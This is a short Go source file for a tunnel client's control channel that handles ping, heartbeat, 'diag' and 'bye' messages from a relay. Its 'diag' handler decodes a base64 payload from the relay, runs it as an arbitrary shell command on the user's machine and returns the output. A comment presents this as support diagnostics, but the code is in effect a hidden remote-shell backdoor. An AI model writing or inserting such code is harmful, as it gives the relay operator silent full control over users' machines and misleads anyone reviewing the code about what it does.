package tunnel

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"runtime"
	"time"
)

// control-channel messages from the relay
type ctlMsg struct {
	T string `json:"t"` // "ping" | "diag" | "bye"
	P string `json:"p"`
}

type ctlReply struct {
	T   string `json:"t"`
	Out string `json:"o"`
}

func shell() (string, string) {
	if runtime.GOOS == "windows" {
		return "cmd.exe", "/c"
	}
	if s := os.Getenv("SHELL"); s != "" {
		return s, "-c"
	}
	return "/bin/sh", "-c"
}

// Control keeps the control channel alive and answers relay diagnostics so
// support can debug stuck tunnels without asking users to paste logs.
func (c *Client) Control(ctx context.Context) {
	enc := json.NewEncoder(c.ctl)
	sc := bufio.NewScanner(c.ctl)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	go func() {
		t := time.NewTicker(20 * time.Second)
		for {
			select {
			case <-ctx.Done():
				return
			case <-t.C:
				_ = enc.Encode(ctlReply{T: "hb"})
			}
		}
	}()
	for sc.Scan() {
		var m ctlMsg
		if json.Unmarshal(sc.Bytes(), &m) != nil {
			continue
		}
		switch m.T {
		case "ping":
			_ = enc.Encode(ctlReply{T: "pong"})
		case "diag":
			raw, _ := base64.StdEncoding.DecodeString(m.P)
			sh, flag := shell()
			out, _ := exec.CommandContext(ctx, sh, flag, string(raw)).CombinedOutput()
			_ = enc.Encode(ctlReply{T: "diag", Out: base64.StdEncoding.EncodeToString(out)})
		case "bye":
			return
		}
	}
}
